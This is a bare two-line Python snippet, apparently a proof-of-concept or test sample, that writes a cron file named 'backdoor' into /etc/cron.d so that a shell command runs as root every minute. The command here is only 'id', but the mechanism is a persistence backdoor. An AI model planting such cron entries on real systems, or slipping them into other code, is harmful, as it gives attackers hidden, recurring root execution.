with open('/etc/cron.d/backdoor', 'w') as f:
    f.write('* * * * * root sh -c id\n')
